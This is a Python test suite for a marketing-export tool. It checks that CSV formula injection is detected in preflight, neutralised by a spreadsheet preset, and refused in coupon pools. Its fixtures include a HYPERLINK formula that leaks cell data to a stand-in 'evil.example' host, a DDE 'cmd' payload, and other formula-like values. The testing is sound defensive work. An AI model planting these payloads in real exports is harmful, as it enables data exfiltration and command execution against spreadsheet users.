"""Issue 10 item 10: CSV formula injection — reported by preflight for every CSV/TSV preset,
neutralised by the spreadsheet preset, refused in coupon pools."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from queries.campaigns.coupons import load_pool
from queries.campaigns.funnel import policy_query
from queries.campaigns.parse import campaign_from_text
from queries.campaigns.preflight import preflight
from queries.campaigns.presets import PRESETS
from queries.core.cells import formula_like
from queries.core.errors import SegmentError
from queries.handoff.approval import approve, review
from queries.handoff.export.write import write_export
from queries.query.session import Session, open_session
from tests import dirty_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CSV_PRESETS = sorted(n for n, p in PRESETS.items() if p.format in ("csv", "tsv"))
CAMPAIGN = """\
name: f
who: {{segment: everyone}}
how: {{channel: email, destination: {dest}}}
what:
  variants:
    - {{name: A, subject: "{{{{ given_name }}}}様", body: "<p>{{{{ family_name }}}}</p>"}}
policy: {{max_contacts: none}}
holdout: {{percent: 0, salt: s}}
"""


@pytest.fixture()
def session(tmp_path: Path):
    customers = [
        {"customer_id": "C1", "email": "one@example.com", "given_name": EVIL},
        {"customer_id": "C2", "email": "two@example.com", "family_name": "@SUM(1+1)"},
        {"customer_id": "C3", "email": "three@example.com", "given_name": "-5"},  # a number
        {"customer_id": "C4", "email": "four@example.com", "given_name": "花子"},
    ]
    db = dirty_db.build(tmp_path / "snap.duckdb", customers)
    s = open_session(dirty_db.workspace(tmp_path / "ws", db))
    yield s
    s.close()


def _campaign(s: Session, dest: str):
    text = CAMPAIGN.format(dest=dest)
    path = s.ws.root / "campaigns" / f"f_{dest}.yaml"
    path.write_text(text, "utf-8")
    return campaign_from_text(text, s.catalog, str(path), s.ws.root, s.store)


@pytest.mark.parametrize(
    ("value", "like"),
    [
        (EVIL, True),
        ("+cmd|' /C calc'!A0", True),
        ("-2+3", True),
        ("@SUM(A1)", True),
        ("\t=1", True),
        ("\r=1", True),
        ("-5", False),
        ("+819012345678", False),
        ("3.5", False),
        ("花子", False),
        ("a=b", False),
        (None, False),
    ],
)
def test_formula_like(value, like: bool) -> None:
    assert formula_like(value) is like


@pytest.mark.parametrize("dest", CSV_PRESETS)
def test_preflight_names_customer_and_field_for_every_csv_preset(session: Session, dest) -> None:
    c = _campaign(session, dest)
    rv = review(session, c)
    found = {f.detail.split("`")[1]: f.customers for f in rv.preflight.warnings}
    assert all(f.kind == "formula" for f in rv.preflight.warnings)
    names = {"given_name": "C1", "family_name": "C2"}
    headers = {
        "braze": {"first_name": "C1", "last_name": "C2"},
        "mailchimp": {"First Name": "C1", "Last Name": "C2"},
        "sendgrid": {"first_name": "C1", "last_name": "C2"},
        "klaviyo": {"First Name": "C1", "Last Name": "C2"},
        "excel_ja": {"名": "C1", "姓": "C2"},
    }.get(dest, names)
    assert found == {h: [cid] for h, cid in headers.items()}
    assert rv.preflight.ok  # a warning: the export is not refused for it
    # the preview/TUI preflight reports the same
    again = preflight(session, c)
    assert [(f.detail, f.customers) for f in again.warnings] == [
        (f.detail, f.customers) for f in rv.preflight.warnings
    ]
    assert again.to_dict()["warnings"][0]["kind"] == "formula"


def test_spreadsheet_preset_neutralises_and_others_keep_the_value(session: Session) -> None:
    assert PRESETS["excel_ja"].formula_guard
    for dest, enc, col in (("excel_ja", "cp932", "名"), ("generic_csv", "utf-8", "given_name")):
        c = _campaign(session, dest)
        rec = approve(session, review(session, c), "lead")
        m = write_export(session, c, rec, session.ws.root / "exports", dest, messages=False)
        text = (Path(m["folder"]) / "audience.csv").read_bytes().decode(enc).lstrip("\ufeff")
        rows = {next(iter(r.values())): r for r in csv.DictReader(io.StringIO(text, newline=""))}
        if dest == "excel_ja":
            assert rows["C1"][col].startswith("'=")  # masked, then guarded
            assert rows["C2"]["姓"].startswith("'@")
        else:
            assert rows["C1"][col] == EVIL
        assert not any(formula_like(v) for v in rows["C3"].values() if v != "-5")


def test_no_formula_warnings_without_formula_values(session: Session) -> None:
    c = _campaign(session, "generic_csv")
    q = policy_query(session, c)
    from queries.campaigns.formula import scan

    assert scan(session, c, q) != []
    (session.ws.root / "segments" / "clean.yaml").write_text(
        "name: clean\nwhere: {all: [{field: customer_id, op: in, value: [C3, C4]}]}\n", "utf-8"
    )
    text = CAMPAIGN.format(dest="generic_csv").replace("segment: everyone", "segment: clean")
    c = campaign_from_text(text, session.catalog, None, session.ws.root, session.store)
    assert scan(session, c, policy_query(session, c)) == []


@pytest.mark.parametrize("code", ["=1+1", "+A1", "-SUM(1)", "@cmd", '"=1+1"'])
def test_coupon_pool_refuses_formula_codes_with_file_and_line(tmp_path: Path, code: str) -> None:
    pool = tmp_path / "pool.csv"
    pool.write_text(f"code\nABC123\n{code}\nXYZ789\n", "utf-8")
    with pytest.raises(SegmentError) as err:
        load_pool(pool, "coupons/pool.csv")
    assert err.value.loc.file == "coupons/pool.csv"
    assert err.value.loc.line == 3
    assert "formula" in str(err.value)
